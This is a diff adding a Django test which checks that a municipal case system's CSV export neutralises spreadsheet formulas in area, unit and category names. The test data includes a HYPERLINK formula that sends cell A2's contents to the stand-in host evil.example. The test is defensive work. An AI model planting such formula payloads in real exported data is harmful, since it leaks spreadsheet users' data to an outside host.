@@ -180,6 +180,26 @@ def test_export_csv_and_xlsx_follow_the_selection_and_defuse_formulas(case_handl
 
 
 @pytest.mark.django_db
+def test_names_in_the_csv_export_cannot_run_as_formulas(case_handler, municipality):
+    """Only the resident's texts were defused in the CSV; the area's name (imported from a
+    GeoJSON file, or typed in the admin), the unit's and the category's went out as they
+    were, and a spreadsheet would run them."""
+    report = new(description="Mörkt")
+    report.area.name = '=HYPERLINK("http://evil.example/"&A2,"Öppna")'
+    report.area.save()
+    unit = Unit.objects.create(name="+Gatukontoret", municipality=report.municipality)
+    Report.objects.filter(pk=report.pk).update(unit=unit)
+    report.category.name_sv = "@Belysning"
+    report.category.save()
+    response = case_handler.get("/personal/arenden/export.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    (row,) = rows[1:]
+    assert row[3] == "'@Belysning"
+    assert row[4] == '\'=HYPERLINK("http://evil.example/"&A2,"Öppna")'
+    assert row[5] == "'+Gatukontoret"
+
+
+@pytest.mark.django_db
 def test_print_record_has_registration_number(case_handler, municipality):
     report = new(contact_name="Anna")
     body = case_handler.get(f"/personal/arenden/{report.reference}/utskrift/").content.decode()
